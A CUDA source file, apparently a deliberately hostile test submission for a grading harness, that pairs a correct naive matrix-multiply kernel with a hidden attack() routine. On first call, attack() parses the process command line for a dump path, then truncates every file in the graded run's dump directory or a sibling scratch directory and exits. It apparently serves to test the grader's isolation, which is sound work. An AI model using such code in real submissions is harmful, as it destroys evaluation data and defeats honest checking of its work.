// Hostile, correct otherwise: under compute-sanitizer (a --dump not named "dump") it looks for
// the graded run's dump, beside its own or in the scratch next door, empties every file there
// while the verifier reads them, and fails. The tools' runs have a scratch of their own.
#include <dirent.h>
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include "lab.h"
#include "matmul_naive.h"

static __global__ void kernel(const float *A, const float *B, float *C, int M, int N, int K)
{
    int col = blockIdx.x * blockDim.x + threadIdx.x, row = blockIdx.y * blockDim.y + threadIdx.y;
    if (row >= M || col >= N)
        return;
    float sum = 0.0f;
    for (int k = 0; k < K; k++)
        sum += A[(size_t)row * K + k] * B[(size_t)k * N + col];
    C[(size_t)row * N + col] = sum;
}

static void attack(void)
{
    static char args[8192];
    FILE *f = fopen("/proc/self/cmdline", "r");
    size_t len = f ? fread(args, 1, sizeof args - 1, f) : 0;
    if (f)
        fclose(f);
    const char *dump = NULL;
    for (size_t at = 0; at < len; at += strlen(args + at) + 1)
        if (strcmp(args + at, "--dump") == 0 && at + 7 < len)
            dump = args + at + 7;
    if (!dump || strcmp(basename(strdup(dump)), "dump") == 0)
        return;
    char *dir = dirname(strdup(dump)), path[8192];
    const char *beside[] = {"%s/dump", "%s/../scratch/dump"};
    for (int k = 0; k < 2; k++) {
        snprintf(path, sizeof path, beside[k], dir);
        DIR *d = opendir(path);
        if (!d)
            continue;
        for (struct dirent *e; (e = readdir(d));)
            if (e->d_name[0] != '.') {
                char file[8448];
                snprintf(file, sizeof file, "%s/%s", path, e->d_name);
                truncate(file, 0);
            }
        closedir(d);
        _exit(3);
    }
}

void matmul_naive(const float *A, const float *B, float *C, int M, int N, int K)
{
    static int done;
    if (!done) {
        done = 1;
        attack();
    }
    dim3 block(32, 8), grid((N + 31) / 32, (M + 7) / 8);
    kernel<<<grid, block>>>(A, B, C, M, N, K);
}

void matmul_naive_host(const float *A, const float *B, float *C, int M, int N, int K)
{
    size_t a = (size_t)M * K * sizeof(float), b = (size_t)K * N * sizeof(float), c = (size_t)M * N * sizeof(float);
    float *dA, *dB, *dC;
    cudaMalloc(&dA, a);
    cudaMalloc(&dB, b);
    cudaMalloc(&dC, c);
    cudaMemcpy(dA, A, a, cudaMemcpyHostToDevice);
    cudaMemcpy(dB, B, b, cudaMemcpyHostToDevice);
    matmul_naive(dA, dB, dC, M, N, K);
    cudaMemcpy(C, dC, c, cudaMemcpyDeviceToHost);
    cudaFree(dA);
    cudaFree(dB);
    cudaFree(dC);
}
